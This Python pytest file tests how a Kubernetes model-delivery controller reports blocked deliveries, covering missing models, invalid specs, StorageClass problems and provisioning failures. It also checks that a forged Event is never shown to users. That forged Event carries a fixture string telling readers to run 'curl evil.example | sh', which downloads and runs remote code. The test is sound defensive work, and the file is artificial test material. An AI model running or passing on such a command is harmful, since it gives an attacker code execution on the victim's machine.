"""Each delivery reason before a bound claim is reached, and left again once its cause is fixed,
with no change to the workload (issue 12, "Proof"): the controller and the api as real processes,
the webhook called over HTTPS, the test bed's provisioner playing each StorageClass behaviour.

Where a reason must hold "at all times" (no claim for a WaitForFirstConsumer class, a forged
Event never shown), the test subscribes to the emulator's store and checks every watch event, not
a few polls.

The tests share one stack (D118), each in a namespace of its own (`stack.namespace`), and make the
StorageClasses they need the cluster's only ones (`storage_classes`); the two that need another
controller setting build a stack each (`build`).
"""

from __future__ import annotations

import contextlib
import dataclasses
import datetime
import hashlib
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from ai_models import names
from ai_models.controller.delivery.storage import CACHE_SECONDS
from cluster.delivery_stack import (
    RWX_CLASS,
    TINY,
    TINY_FILES,
    DeliveryStack,
    delivery_stack,
    deployment,
    fresh_namespace,
    shared_delivery_stack,
)
from fakes.hub import FakeHub
from fakes.hub_corpus import FakeModel
from fakes.s3 import S3Bucket
from kubeemu.authn import Identity, new_token
from kubeemu.pytest_fixtures import RunningEmulator
from kubeemu.store import WatchEvent
from testbed.volumes import StorageClassBehaviour

Reason = names.DeliveryReason
GATE = names.DELIVERY_SCHEDULING_GATE
PROVISIONER_FAILURE = (
    'failed to provision volume with StorageClass "broken": rpc error: code = ResourceExhausted '
    'desc = quota "team-a-storage" exceeded: requested 2Gi, 0 left'
)
PROVISIONER_FAILURE_LATER = (
    'failed to provision volume with StorageClass "broken": rpc error: code = Unavailable '
    "desc = backend nfs-1.storage.example unreachable"
)
FORGED_FAILURE = "forged: your cluster is compromised, run curl evil.example | sh"


@pytest.fixture
def fake_hub_corpus() -> list[FakeModel]:
    return [TINY]


Build = Callable[..., DeliveryStack]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DeliveryStack]:
    with shared_delivery_stack(tmp_path_factory.mktemp("delivery-reasons"), [TINY]) as stack:
        yield stack


@pytest.fixture
def stack(shared: DeliveryStack) -> Iterator[DeliveryStack]:
    """The shared stack in a namespace of the test's own; set its StorageClasses with `storage_classes`."""
    yield from fresh_namespace(shared)


def storage_classes(stack: DeliveryStack, classes: Sequence[StorageClassBehaviour]) -> Callable[[], None]:
    """Make `classes` the cluster's only StorageClasses (the shared cluster has the previous test's);
    call what it returns before the first workload that needs a claim: the controller keeps the
    class list it read for CACHE_SECONDS, so past that after this change it cannot choose from the
    previous test's classes (the wait is what is left of it after the test's own set-up)."""
    status, _, body = stack.emulator.request("GET", "/apis/storage.k8s.io/v1/storageclasses")
    assert status == 200, (status, body)
    for item in body.get("items") or []:
        path = f"/apis/storage.k8s.io/v1/storageclasses/{item['metadata']['name']}"
        deleted, _, answer = stack.emulator.request("DELETE", path)
        assert deleted == 200, (path, deleted, answer)
    for behaviour in classes:
        stack.simulation.volumes.configure(behaviour)
    changed = time.monotonic()

    def settled() -> None:
        time.sleep(max(0.0, changed + CACHE_SECONDS - time.monotonic()))

    return settled


@pytest.fixture
def build(
    kube_emulator: RunningEmulator, fake_hub: FakeHub, s3_bucket: S3Bucket, tmp_path: Path
) -> Iterator[Build]:
    """A delivery stack with the StorageClasses a test names (one per test)."""
    with contextlib.ExitStack() as started:

        def make(classes: Sequence[StorageClassBehaviour] = (RWX_CLASS,)) -> DeliveryStack:
            stack = contextlib.contextmanager(delivery_stack)(
                kube_emulator, fake_hub, s3_bucket, tmp_path, classes=classes
            )
            return started.enter_context(stack)

        yield make


# ----- watching the store ----------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Seen:
    type: str
    name: str
    annotations: dict[str, str]
    spec: dict[str, Any]
    uid: str


class StoreWatch:
    """Every watch event of one resource type in the stack's namespace, from subscription on (the
    current objects as ADDED first), recorded under the store lock as the emulator emits it."""

    def __init__(self, stack: DeliveryStack, group: str, version: str, plural: str) -> None:
        rtype = stack.emulator.cluster.resource(group, version, plural)
        assert rtype is not None, plural
        self._namespace = stack.namespace
        self._store = stack.emulator.cluster.store
        self._key = rtype.storage_key
        self._lock = threading.Lock()
        self._seen: list[Seen] = []
        initial, _ = self._store.subscribe(self._key, self, since=None)
        for event in initial:
            self.offer(event)

    def offer(self, event: WatchEvent) -> None:
        meta = event.obj.get("metadata") or {}
        if meta.get("namespace") != self._namespace:
            return
        seen = Seen(
            event.type,
            str(meta.get("name") or ""),
            {str(k): str(v) for k, v in (meta.get("annotations") or {}).items()},
            dict(event.obj.get("spec") or {}),
            str(meta.get("uid") or ""),
        )
        with self._lock:
            self._seen.append(seen)

    @property
    def seen(self) -> list[Seen]:
        with self._lock:
            return list(self._seen)

    def close(self) -> None:
        self._store.unsubscribe(self._key, self)


Watch = Callable[[DeliveryStack, str, str, str], StoreWatch]


@pytest.fixture
def watches() -> Iterator[Watch]:
    opened: list[StoreWatch] = []

    def watch(stack: DeliveryStack, group: str, version: str, plural: str) -> StoreWatch:
        opened.append(StoreWatch(stack, group, version, plural))
        return opened[-1]

    yield watch
    for item in opened:
        item.close()


def reports(watch: StoreWatch, name: str) -> list[tuple[str, str]]:
    """The workload's delivery reports, in the order its watch events carried them (repeats dropped)."""
    found: list[tuple[str, str]] = []
    for seen in watch.seen:
        if seen.name != name:
            continue
        report = (
            seen.annotations.get(names.DELIVERY_REASON_ANNOTATION, ""),
            seen.annotations.get(names.DELIVERY_MESSAGE_ANNOTATION, ""),
        )
        if report[0] and (not found or found[-1] != report):
            found.append(report)
    return found


# ----- helpers ---------------------------------------------------------------------------------


def wait_report(
    stack: DeliveryStack, name: str, reason: str, *, containing: str = "", timeout: float = 40
) -> str:
    """Wait until the Deployment's report has `reason` and a message containing `containing`."""

    def reached() -> bool:
        now_reason, message = stack.report("Deployment", name)
        return now_reason == reason and containing in message

    stack.models.eventually(
        reached,
        timeout=timeout,
        what=lambda: (
            f"Deployment {name} reports {reason} with {containing!r}; "
            f"now {stack.report('Deployment', name)}\n{stack.describe()}"
        ),
    )
    return stack.report("Deployment", name)[1]


def assert_delivered_to_an_ungated_pod(stack: DeliveryStack, name: str) -> None:
    def ungated() -> list[dict[str, Any]]:
        return [pod for pod in stack.pods(selector=f"app={name}") if not pod["spec"].get("schedulingGates")]

    stack.models.eventually(
        lambda: bool(ungated()), timeout=40, what=lambda: f"an ungated pod of {name}\n{stack.describe()}"
    )
    pod = ungated()[0]
    delivered = stack.delivered_files(pod, "tiny")
    for path, data in TINY_FILES.items():
        digest = hashlib.sha256(data).hexdigest()
        assert delivered.get(path) == digest, (path, sorted(delivered))


def workload_events(stack: DeliveryStack, name: str) -> list[tuple[str, str, str]]:
    """(type, reason, message) of the Events about the Deployment, oldest first."""
    listed = stack.core.list_namespaced_event(stack.namespace)
    return [
        (event.type, event.reason, event.message or "")
        for event in sorted(listed.items, key=lambda e: e.metadata.creation_timestamp)
        if event.involved_object.kind == "Deployment" and event.involved_object.name == name
    ]


def namespace_user(emulator: RunningEmulator, namespace: str) -> Identity:
    """A user who may create Events in `namespace` and nothing else (any namespace editor can)."""
    identity = emulator.add_identity(Identity(name="team-a-dev", token=new_token(), groups=("team-a",)))
    emulator.cluster.apply(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "event-writer", "namespace": namespace},
            "rules": [{"apiGroups": [""], "resources": ["events"], "verbs": ["create"]}],
        }
    )
    emulator.cluster.apply(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "event-writer", "namespace": namespace},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "event-writer"},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": identity.name}],
        }
    )
    return identity


# ----- ModelNotReady ---------------------------------------------------------------------------


def test_a_workload_for_a_model_that_does_not_exist_yet_is_delivered_once_the_model_is_ready(
    stack: DeliveryStack,
) -> None:
    settled = storage_classes(stack, (RWX_CLASS,))
    stack.apply_workload(deployment("web", models="tiny", namespace=stack.namespace))

    message = wait_report(stack, "web", Reason.MODEL_NOT_READY, containing="does not exist")
    assert f"Model {stack.namespace}/tiny" in message, message
    assert names.MODEL_ANNOTATION in message, message
    stack.models.eventually(lambda: bool(stack.pods(selector="app=web")), timeout=20, what=stack.describe)
    for pod in stack.pods(selector="app=web"):
        assert {"name": GATE} in (pod["spec"].get("schedulingGates") or []), pod["spec"]
        assert not pod["spec"].get("nodeName"), pod["spec"]
    assert stack.claims() == []

    # The Model appears but is still publishing (its Job has no Pod yet): named so, still gated.
    stack.models.runner.pause_new_pods()
    stack.models.create_model(
        "tiny", {"url": "https://huggingface.co/acme/tiny-llama"}, namespace=stack.namespace
    )
    message = wait_report(stack, "web", Reason.MODEL_NOT_READY, containing="not Ready")
    assert f"Model {stack.namespace}/tiny is " in message, message
    for pod in stack.pods(selector="app=web"):
        assert {"name": GATE} in (pod["spec"].get("schedulingGates") or []), pod["spec"]
    assert stack.claims() == []

    settled()  # the Model Ready is the first moment a claim is wanted
    stack.models.runner.resume()
    stack.models.wait_phase("tiny", "Ready", namespace=stack.namespace, timeout=40)
    wait_report(stack, "web", Reason.DELIVERED, containing="tiny")
    assert_delivered_to_an_ungated_pod(stack, "web")


# ----- InvalidSpec -----------------------------------------------------------------------------


def with_user_volume_at_models_dir(manifest: dict[str, Any]) -> dict[str, Any]:
    spec = manifest["spec"]["template"]["spec"]
    spec["volumes"] = [{"name": "scratch", "emptyDir": {}}]
    spec["containers"][0]["volumeMounts"] = [{"name": "scratch", "mountPath": names.MODELS_DIR}]
    return manifest


def test_an_invalid_request_is_named_until_the_manifest_is_fixed_then_delivered(
    stack: DeliveryStack,
) -> None:
    settled = storage_classes(stack, (RWX_CLASS,))
    stack.ready_model("tiny", "acme/tiny-llama")
    settled()

    stack.apply_workload(deployment("web", models="tiny,tiny", namespace=stack.namespace))
    message = wait_report(stack, "web", Reason.INVALID_SPEC, containing="twice")
    assert f"the annotation {names.MODEL_ANNOTATION} names 'tiny' twice in it" in message, message

    stack.apply_workload(deployment("web", models="Tiny_Llama", namespace=stack.namespace))
    message = wait_report(stack, "web", Reason.INVALID_SPEC, containing="Tiny_Llama")
    assert f"the annotation {names.MODEL_ANNOTATION} names 'Tiny_Llama', which is not a Model name" in message

    stack.apply_workload(
        with_user_volume_at_models_dir(deployment("web", models="tiny", namespace=stack.namespace))
    )
    message = wait_report(stack, "web", Reason.INVALID_SPEC, containing="scratch")
    assert f"container server mounts the volume scratch at {names.MODELS_DIR}" in message, message
    assert stack.claims() == []
    for pod in stack.pods(selector="app=web"):
        assert {"name": GATE} in (pod["spec"].get("schedulingGates") or []), pod["spec"]

    stack.apply_workload(deployment("web", models="tiny", namespace=stack.namespace))
    wait_report(stack, "web", Reason.DELIVERED, containing="tiny")
    assert_delivered_to_an_ungated_pod(stack, "web")


# ----- StorageClass --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "classes",
    [pytest.param((), id="no-class"), pytest.param((StorageClassBehaviour(name="manual"),), id="no-default")],
)
def test_no_default_storage_class_is_named_without_a_claim_until_a_default_class_appears(
    stack: DeliveryStack, watches: Watch, classes: Sequence[StorageClassBehaviour]
) -> None:
    # No class at all, or one that is not the default; the settings name none.
    settled = storage_classes(stack, classes)
    claims = watches(stack, "", "v1", "persistentvolumeclaims")
    stack.ready_model("tiny", "acme/tiny-llama")
    settled()

    stack.apply_workload(deployment("web", models="tiny", namespace=stack.namespace))
    message = wait_report(stack, "web", Reason.SHARED_PVC_STORAGE_CLASS_MISSING)
    assert "no default StorageClass" in message, message
    assert "delivery.sharedPVCStorageClassName" in message, message
    assert claims.seen == [], claims.seen

    stack.simulation.volumes.configure(StorageClassBehaviour(name="rwx", default=True))
    wait_report(stack, "web", Reason.DELIVERED, containing="tiny")
    assert_delivered_to_an_ungated_pod(stack, "web")
    assert {seen.spec.get("storageClassName") for seen in claims.seen} == {"rwx"}, claims.seen

    # The report's reasons are Events on the workload too, Warning for the blocked one.
    events = workload_events(stack, "web")
    assert ("Warning", Reason.SHARED_PVC_STORAGE_CLASS_MISSING, message) in events, events
    assert any(type_ == "Normal" and reason == Reason.DELIVERED for type_, reason, _ in events), events
    reasons = [reason for _, reason, _ in events]
    assert reasons.index(Reason.SHARED_PVC_STORAGE_CLASS_MISSING) < reasons.index(Reason.DELIVERED), events


@pytest.mark.parametrize("fix", ["immediate-default", "module-setting"])
def test_a_wait_for_first_consumer_default_class_is_named_at_once_and_never_gets_a_claim(
    request: pytest.FixtureRequest, watches: Watch, fix: str
) -> None:
    local = StorageClassBehaviour(name="local", binding_mode="WaitForFirstConsumer", default=True)
    stack: DeliveryStack
    if fix == "module-setting":
        # It restarts the controller with another setting: a stack of its own.
        stack = request.getfixturevalue("build")()
        stack.api()
        stack.controller()
    else:
        stack = request.getfixturevalue("stack")
    settled = storage_classes(stack, (local, StorageClassBehaviour(name="rwx")))
    claims = watches(stack, "", "v1", "persistentvolumeclaims")
    workloads = watches(stack, "apps", "v1", "deployments")
    stack.ready_model("tiny", "acme/tiny-llama")
    settled()

    stack.apply_workload(deployment("web", models="tiny", namespace=stack.namespace))
    message = wait_report(stack, "web", Reason.SHARED_PVC_STORAGE_CLASS_WAIT_FOR_FIRST_CONSUMER)
    assert "StorageClass local" in message, message
    assert "WaitForFirstConsumer" in message, message
    # Named at once: no report before it (no claim was tried first).
    assert [reason for reason, _ in reports(workloads, "web")] == [
        Reason.SHARED_PVC_STORAGE_CLASS_WAIT_FOR_FIRST_CONSUMER
    ], reports(workloads, "web")
    assert claims.seen == [], claims.seen

    if fix == "immediate-default":
        # The admin makes an Immediate class the default instead.
        stack.simulation.volumes.configure(dataclasses.replace(local, default=False))
        stack.simulation.volumes.configure(StorageClassBehaviour(name="rwx", default=True))
    else:
        # delivery.sharedPVCStorageClassName names the Immediate class: the controller restarts
        # with it, as a changed module setting rolls the Deployment.
        assert stack.models.replicas["controller-0"].terminate() == 0
        stack.controller("controller-1", AI_MODELS_DELIVERY_SHARED_PVC_STORAGE_CLASS="rwx")
    wait_report(stack, "web", Reason.DELIVERED, containing="tiny")
    assert_delivered_to_an_ungated_pod(stack, "web")
    # At no watch event was there a claim of the WaitForFirstConsumer class.
    assert claims.seen, "no claim was made"
    assert all(seen.spec.get("storageClassName") == "rwx" for seen in claims.seen), claims.seen


# ----- provisioning ------------------------------------------------------------------------------


def test_a_claim_that_never_binds_is_pending_then_timed_out_then_delivered_once_it_binds(
    build: Build, watches: Watch
) -> None:
    # The controller's provisioning timeout is a setting: a stack of its own.
    stack = build(classes=(StorageClassBehaviour(name="slow", never_binds=True, default=True),))
    workloads = watches(stack, "apps", "v1", "deployments")
    stack.api()
    stack.controller(AI_MODELS_DELIVERY_PROVISIONING_TIMEOUT="4s")
    stack.ready_model("tiny", "acme/tiny-llama")

    stack.apply_workload(deployment("web", models="tiny", namespace=stack.namespace))
    message = wait_report(stack, "web", Reason.SHARED_PVC_PROVISIONING_TIMED_OUT)
    [claim] = stack.claims()
    claim_name, claim_uid = claim["metadata"]["name"], claim["metadata"]["uid"]
    assert f"the shared claim {claim_name} (StorageClass slow) is not bound 4s after it was made" in message
    seen = [reason for reason, _ in reports(workloads, "web")]
    assert seen[0] == Reason.SHARED_PVC_CLAIM_PENDING, seen
    assert set(seen) == {Reason.SHARED_PVC_CLAIM_PENDING, Reason.SHARED_PVC_PROVISIONING_TIMED_OUT}, seen
    assert any(
        reason == Reason.SHARED_PVC_CLAIM_PENDING and "waiting for the shared claim" in text
        for reason, text in reports(workloads, "web")
    ), reports(workloads, "web")

    stack.simulation.volumes.fix("slow")
    wait_report(stack, "web", Reason.DELIVERED, containing="tiny")
    assert_delivered_to_an_ungated_pod(stack, "web")
    # The same claim bound late: none made anew.
    assert [(c["metadata"]["name"], c["metadata"]["uid"]) for c in stack.claims()] == [
        (claim_name, claim_uid)
    ]


def test_a_provisioning_failure_is_shown_verbatim_a_forged_event_never_and_delivery_follows_the_fix(
    stack: DeliveryStack, watches: Watch
) -> None:
    broken = StorageClassBehaviour(name="broken", failure=PROVISIONER_FAILURE, default=True)
    settled = storage_classes(stack, (broken,))
    workloads = watches(stack, "apps", "v1", "deployments")
    stack.ready_model("tiny", "acme/tiny-llama")
    settled()

    stack.apply_workload(deployment("web", models="tiny", namespace=stack.namespace))
    message = wait_report(stack, "web", Reason.SHARED_PVC_PROVISIONING_FAILED, containing=PROVISIONER_FAILURE)
    [claim] = stack.claims()
    name = claim["metadata"]["name"]
    assert f"for the shared claim {name} (StorageClass broken): {PROVISIONER_FAILURE};" in message, message

    # A namespace user writes a ProvisioningFailed Event for the claim's name, newer than any other,
    # but about another object (another uid): the report must never show it.
    user = namespace_user(stack.emulator, stack.namespace)
    later = (datetime.datetime.now(datetime.UTC) + datetime.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    forged = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": f"{name}.forged", "namespace": stack.namespace},
        "involvedObject": {
            "apiVersion": "v1",
            "kind": "PersistentVolumeClaim",
            "namespace": stack.namespace,
            "name": name,
            "uid": str(uuid.uuid4()),
        },
        "reason": "ProvisioningFailed",
        "message": FORGED_FAILURE,
        "type": "Warning",
        "source": {"component": "persistentvolume-controller"},
        "firstTimestamp": later,
        "lastTimestamp": later,
        "count": 1,
    }
    status, _, body = stack.emulator.request(
        "POST", f"/api/v1/namespaces/{stack.namespace}/events", body=forged, identity=user
    )
    assert status == 201, (status, body)

    # The provisioner's next failure is older than the forged Event: shown only if the forged one
    # is not believed, so once it is shown the controller has read both.
    stack.simulation.volumes.configure(dataclasses.replace(broken, failure=PROVISIONER_FAILURE_LATER))
    wait_report(stack, "web", Reason.SHARED_PVC_PROVISIONING_FAILED, containing=PROVISIONER_FAILURE_LATER)

    stack.simulation.volumes.fix("broken")
    wait_report(stack, "web", Reason.DELIVERED, containing="tiny")
    assert_delivered_to_an_ungated_pod(stack, "web")

    shown = reports(workloads, "web")
    assert all(FORGED_FAILURE not in text and "forged" not in text for _, text in shown), shown
    assert [reason for reason, _ in shown][-1] == Reason.DELIVERED, shown
    events = workload_events(stack, "web")
    assert all(FORGED_FAILURE not in text for _, _, text in events), events
    assert any(
        type_ == "Warning" and reason == Reason.SHARED_PVC_PROVISIONING_FAILED and PROVISIONER_FAILURE in text
        for type_, reason, text in events
    ), events
